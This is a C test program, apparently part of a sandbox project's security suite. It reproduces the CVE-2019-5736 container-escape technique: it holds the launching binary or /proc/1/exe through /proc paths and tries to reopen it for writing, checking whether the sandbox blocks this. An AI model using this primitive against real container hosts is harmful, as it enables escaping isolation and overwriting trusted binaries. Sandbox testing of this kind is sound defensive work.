/*
 * Copyright 2026 The Sandbox4J Authors
 * SPDX-License-Identifier: Apache-2.0
 */
/* CVE-2019-5736: the file that started the sandbox is held through /proc/<pid>/exe and overwritten when
 * nobody executes it any more. Without arguments the launcher is a copy of this program, else pid 1. */
#include "attack.h"

static int overwrite(const char *exe, pid_t launcher) {
  int held = open(exe, O_PATH);
  if (held < 0) return shut("hold the launcher's file: %s", strerror(errno));
  if (launcher) {
    kill(launcher, SIGKILL);
    waitpid(launcher, 0, 0);
  }
  char again[64];
  sprintf(again, "/proc/self/fd/%d", held);
  return judge("open the launcher for writing", open(again, O_WRONLY));
}

int main(int argc, char **argv) {
  if (argc > 1) return strcmp(argv[1], "wait") ? overwrite("/proc/1/exe", 0) : pause();
  char name[] = "launcher", exe[64];
  int self = open("/proc/self/exe", O_RDONLY), copy = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char bytes[65536];
  for (ssize_t size; (size = read(self, bytes, sizeof bytes)) > 0;)
    if (write(copy, bytes, (size_t)size) != size) return 1;
  close(copy);
  int ready[2];
  if (pipe2(ready, O_CLOEXEC)) return 1;
  pid_t launcher = fork();
  if (launcher == 0) execl(name, name, "wait", (char *)0);
  close(ready[1]);
  if (read(ready[0], bytes, 1) != 0) return 1; /* end of file: it executes */
  sprintf(exe, "/proc/%d/exe", launcher);
  int result = overwrite(exe, launcher);
  unlink(name);
  return result;
}
